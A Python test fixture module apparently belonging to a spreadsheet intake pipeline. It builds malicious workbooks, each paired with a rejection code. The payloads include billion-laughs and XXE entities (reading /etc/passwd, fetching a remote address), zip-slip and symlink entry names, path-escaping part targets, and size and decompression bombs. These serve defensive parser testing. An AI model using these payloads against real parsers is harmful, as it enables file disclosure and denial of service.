"""Hostile workbooks made by hand, each with the code of the sentence it is refused with (reliability.md 4.7)."""

from __future__ import annotations

import io
import stat
import warnings
import zipfile
from dataclasses import dataclass
from typing import TYPE_CHECKING

from tests.data.intake.packages import (
    BOOK,
    CORE,
    HEAD,
    MAIN,
    SHEET,
    STRINGS,
    TYPES,
    book,
    core,
    leads,
    packed,
    parts,
    row,
    sheet,
    strings,
    styles,
    types,
    workbook,
)

if TYPE_CHECKING:
    from collections.abc import Callable

_LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(
        f'<!ENTITY {name} "{f"&{before};" * 10}">'
        for before, name in zip("abcdefgh", "bcdefghi", strict=True)
    )
    + "]>"
)
_REFS = "".join(f"B{number} " for number in range(1, 100_001))


@dataclass(frozen=True, slots=True)
class Hostile:
    """One kind: how it is made, and how it is refused; an empty code is read after all."""

    made: Callable[[], bytes]
    code: str
    unguarded: bool = False
    """Whether openpyxl alone hangs or bloats on it."""


def _with(part: str, content: str | bytes) -> bytes:
    return packed(parts() | {part: content})


def _declared(part: str, declaration: str = _LAUGHS, text: str = "&i;") -> Callable[[], bytes]:
    """A document type in one part, used where a text stands."""

    def made() -> bytes:
        whole = str(parts()[part])
        return _with(part, whole.replace(HEAD, HEAD + declaration).replace("FICTIONAL", text))

    return made


def _one_cell(cell: str) -> Callable[[], bytes]:
    return lambda: workbook(sheet=sheet(row(cell)))


def _sheet(
    rows: str = row('<c r="A1"><v>1</v></c>'), after: str = "", before: str = ""
) -> Callable[[], bytes]:
    return lambda: workbook(sheet=sheet(rows, after, before))


def _damaged(change: Callable[[bytearray], object]) -> bytes:
    content = bytearray(workbook())
    change(content)
    return bytes(content)


def _named(name: str, mode: int = 0) -> bytes:
    made = io.BytesIO(workbook())
    with warnings.catch_warnings(), zipfile.ZipFile(made, "a") as file:
        warnings.simplefilter("ignore")
        info = zipfile.ZipInfo("x")
        info.filename, info.external_attr = name, mode << 16
        file.writestr(info, "x")
    return made.getvalue()


def _overlapping() -> bytes:
    """Two entries of the directory that lead to one place."""
    content = bytearray(workbook())
    first, second = content.find(b"PK\x01\x02"), content.rfind(b"PK\x01\x02")
    content[second + 42 : second + 46] = content[first + 42 : first + 46]
    return bytes(content)


def _broken_sum(content: bytearray) -> None:
    """Change the checksum of the last entry, in its directory and before its content."""
    place = content.rfind(b"PK\x01\x02")
    content[place + 16] ^= 0xFF


def _many_sheets() -> bytes:
    listed = "".join(
        f'<sheet name="S{number}" sheetId="{number + 1}" r:id="rId1"/>' for number in range(20_000)
    )
    return workbook(book=book(listed))


def _compound(*streams: str) -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + b"".join(s.encode("utf-16-le") for s in streams)


_VALIDATION = f'<dataValidations><dataValidation sqref="{_REFS}" type="whole"/></dataValidations>'
_ATTRIBUTES = "<!DOCTYPE x [<!ATTLIST t " + " ".join(f'a{n} CDATA "x"' for n in range(40_000)) + ">]>"
_MERGES = (
    "<mergeCells>" + "".join(f'<mergeCell ref="A{n}:B{n}"/>' for n in range(1, 100_001)) + "</mergeCells>"
)
_ENDLESS = '<numFmt numFmtId="164" formatCode="' + "[" * 200_000 + '"/>'
_NAMES = "<definedNames>" + '<definedName name="x">A!A1</definedName>' * 50_000 + "</definedNames>"
_FAR = row('<c r="A1"><v>1</v></c>') + row('<c r="XFD1048576"><v>2</v></c>', number=1_048_576)
_NESTED = "<extLst>" + "<x>" * 200_000 + "</x>" * 200_000 + "</extLst>"

HOSTILE: dict[str, Hostile] = {
    "billion laughs in the sheet": Hostile(
        lambda: _with(SHEET, sheet(row("<c r='A1' t='str'><v>&i;</v></c>")).replace(HEAD, HEAD + _LAUGHS)),
        "F04",
    ),
    "billion laughs in the strings": Hostile(_declared(STRINGS), "F04"),
    "billion laughs in the workbook": Hostile(_declared(BOOK), "F04"),
    "billion laughs in the types": Hostile(_declared(TYPES), "F04"),
    "billion laughs in the properties": Hostile(_declared(CORE), "F04"),
    "one large entity": Hostile(
        _declared(STRINGS, '<!DOCTYPE x [<!ENTITY i "' + "x" * 9_000 + '">]>', "&i;" * 1_000), "F04"
    ),
    "entity of a local file": Hostile(
        _declared(STRINGS, '<!DOCTYPE x [<!ENTITY i SYSTEM "file:///etc/passwd">]>'), "F04"
    ),
    "entity of an address": Hostile(
        _declared(STRINGS, '<!DOCTYPE x [<!ENTITY % i SYSTEM "http://198.51.100.1/x"> %i;]>', "x"), "F04"
    ),
    "document type of attributes": Hostile(
        _declared(STRINGS, _ATTRIBUTES, "x"),
        "F04",
    ),
    "document type in a part nobody reads": Hostile(
        lambda: _with("xl/theme/theme1.xml", HEAD + "<!DOCTYPE x><x/>"), "F04"
    ),
    "blanks without end": Hostile(_sheet(before=" " * 64_000_000), "F14", unguarded=True),
    "a comment without end": Hostile(_sheet(before="<!--" + " > " * 3_000_000 + "-->"), "F14"),
    "a long comment, badly packed": Hostile(
        lambda: packed(
            parts(sheet=sheet("", before="<!--" + ">" * 5_000_000 + "-->")), method=zipfile.ZIP_STORED
        ),
        "F14",
    ),
    "an attribute without end": Hostile(
        lambda: packed(
            parts(sheet=sheet("", before='<x a="' + "x" * 3_000_000 + '"/>')), method=zipfile.ZIP_STORED
        ),
        "F14",
    ),
    "a text without end": Hostile(
        lambda: packed(parts(strings=strings("x" * 3_000_000)), method=zipfile.ZIP_STORED), "F14"
    ),
    "a string longer than a cell": Hostile(lambda: workbook(strings=strings("x" * 40_000)), "F27"),
    "runs without end": Hostile(lambda: workbook(strings=strings("</t><t>" * 300_000)), "F14"),
    "one string used everywhere": Hostile(
        lambda: workbook(
            strings=strings("x" * 32_000),
            sheet=sheet("".join(row('<c t="s"><v>0</v></c>', number=number) for number in range(1, 2_000))),
        ),
        "F14",
    ),
    "far cell": Hostile(_sheet(_FAR), "F13", unguarded=True),
    "row off the grid": Hostile(
        _sheet('<row r="4294967295"><c r="A4294967295"><v>1</v></c></row>'), "F15", unguarded=True
    ),
    "row far down": Hostile(_sheet('<row r="1048576"><c><v>1</v></c></row>'), "F13"),
    "column off the grid": Hostile(_one_cell('<c r="XFE1"><v>1</v></c>'), "F15"),
    "too many columns": Hostile(_one_cell('<c r="KO1"><v>1</v></c>'), "F13"),
    "cell of another row": Hostile(_one_cell('<c r="A11"><v>1</v></c>'), "F15"),
    "cell twice": Hostile(_one_cell('<c r="A1"><v>1</v></c><c r="A1"><v>2</v></c>'), "F15"),
    "row twice": Hostile(_sheet(row('<c r="A1"><v>1</v></c>') * 2), "F15"),
    "merge of everything": Hostile(
        _sheet(after='<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'), "F14", unguarded=True
    ),
    "100,000 merges": Hostile(
        _sheet(after=_MERGES),
        "F14",
        unguarded=True,
    ),
    "merge off the grid": Hostile(
        _sheet(after='<mergeCells><mergeCell ref="A0:B9999999"/></mergeCells>'), "F15"
    ),
    "link on everything": Hostile(
        _sheet(after='<hyperlinks><hyperlink ref="A1:XFD1048576" location="A!A1"/></hyperlinks>'),
        "",
        unguarded=True,
    ),
    "validation of 100,000 ranges": Hostile(
        _sheet(after=_VALIDATION),
        "F14",
        unguarded=True,
    ),
    "endless number format": Hostile(
        lambda: workbook(styles=styles(_ENDLESS, xfs='<xf numFmtId="164" fontId="0"/>')),
        "F14",
        unguarded=True,
    ),
    "100,000 styles": Hostile(
        lambda: workbook(
            styles=styles(xfs="".join(f'<xf numFmtId="0" fontId="0" a="{n}"/>' for n in range(100_000)))
        ),
        "F14",
        unguarded=True,
    ),
    "20,000 sheets": Hostile(_many_sheets, "F26", unguarded=True),
    "50,000 names": Hostile(
        lambda: workbook(book=book(more=_NAMES)),
        "F14",
    ),
    "nested without end": Hostile(_sheet(after=_NESTED), "F14", unguarded=True),
    "empty cells without end": Hostile(
        _sheet("".join(row("<c/>" * 16_000, number=number) for number in range(1, 201))),
        "F14",
        unguarded=True,
    ),
    "packed by bzip2": Hostile(lambda: packed(parts(), method=zipfile.ZIP_BZIP2), "F14"),
    "UTF-16": Hostile(
        lambda: workbook(
            sheet=sheet(row('<c r="A1"><v>1</v></c>')).replace("UTF-8", "UTF-16").encode("utf-16")
        ),
        "",
    ),
    "sheet part missing": Hostile(lambda: packed({k: v for k, v in parts().items() if k != SHEET}), "F15"),
    "sheet part outside": Hostile(lambda: workbook(leads=leads("../../../etc/passwd")), "F15"),
    "sheet part at an address": Hostile(lambda: workbook(leads=leads("http://198.51.100.1/s.xml")), "F15"),
    "another root": Hostile(lambda: workbook(sheet=sheet("").replace("worksheet", "worksheets")), "F15"),
    "another namespace": Hostile(lambda: workbook(sheet=sheet("").replace(MAIN, "urn:x")), "F15"),
    "part twice": Hostile(lambda: _named(SHEET), "F15"),
    "part twice but for case": Hostile(lambda: _named(SHEET.upper()), "F15"),
    "workbook part missing": Hostile(lambda: packed({k: v for k, v in parts().items() if k != BOOK}), "F15"),
    "types missing": Hostile(lambda: packed({k: v for k, v in parts().items() if k != TYPES}), "F01"),
    "a text document": Hostile(
        lambda: workbook(
            types=types("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml")
        ),
        "F01",
    ),
    "name that climbs": Hostile(lambda: _named("../../evil.xml"), "F14"),
    "absolute name": Hostile(lambda: _named("/etc/passwd"), "F14"),
    "name with a drive": Hostile(lambda: _named("C:evil.xml"), "F14"),
    "name with a backslash": Hostile(lambda: _named("xl\\odd.xml"), ""),
    "name that climbs by backslashes": Hostile(lambda: _named("xl\\..\\..\\evil.xml"), "F14"),
    "name of another computer": Hostile(lambda: _named("\\\\server\\evil.xml"), "F14"),
    "name with a drive and a backslash": Hostile(lambda: _named("C:\\evil.xml"), "F14"),
    "part twice but for its slashes": Hostile(lambda: _named(SHEET.replace("/", "\\")), "F15"),
    "symbolic name": Hostile(lambda: _named("xl/link.xml", stat.S_IFLNK | 0o777), "F14"),
    "6,000 parts": Hostile(lambda: packed(parts() | {f"x/{number}": b"" for number in range(6_000)}), "F14"),
    "entries that overlap": Hostile(_overlapping, "F15"),
    "broken checksum": Hostile(lambda: _damaged(_broken_sum), "F15"),
    "cut short": Hostile(lambda: workbook()[:-200], "F15"),
    "cut in the middle": Hostile(lambda: workbook()[:700], "F15"),
    "number that is none": Hostile(_one_cell('<c r="A1"><v>twelve</v></c>'), "F15"),
    "number beyond all": Hostile(_one_cell('<c r="A1"><v>1e999</v></c>'), "F15"),
    "string that is not there": Hostile(_one_cell('<c r="A1" t="s"><v>99</v></c>'), "F15"),
    "string before the first": Hostile(_one_cell('<c r="A1" t="s"><v>-1</v></c>'), "F15"),
    "unfinished XML": Hostile(lambda: workbook(sheet=sheet("")[:-20]), "F15"),
    "encrypted": Hostile(lambda: _compound("EncryptedPackage", "EncryptionInfo"), "F02"),
    "rights-protected": Hostile(lambda: _compound("\tDRMContent"), "F02"),
    "sealed by a document-security program": Hostile(
        lambda: b"<## NASCA DRM FILE - VER1.00 ##>" + bytes(range(256)), "F02"
    ),
    "old text document": Hostile(lambda: _compound("WordDocument"), "F01"),
    "damaged old workbook": Hostile(lambda: _compound("Workbook"), "F30"),
    "CSV": Hostile(lambda: "관리번호,사업명\n1,가\n".encode("cp949"), "F09"),
    "web page": Hostile(lambda: b"\xef\xbb\xbf\n<html><table><tr><td>1</td></tr></table></html>", "F10"),
    "PDF": Hostile(lambda: b"%PDF-1.7\n" + bytes(200), "F11"),
    "picture": Hostile(lambda: b"\x89PNG\r\n\x1a\n" + bytes(200), "F01"),
    "empty zip": Hostile(lambda: b"PK\x05\x06" + bytes(18), "F01"),
    "properties with a long text": Hostile(
        lambda: packed(parts(core=core("x" * 3_000_000)), method=0), "F14"
    ),
}
"""Every kind by its name; a few are read, because nothing in them is asked of the reader."""
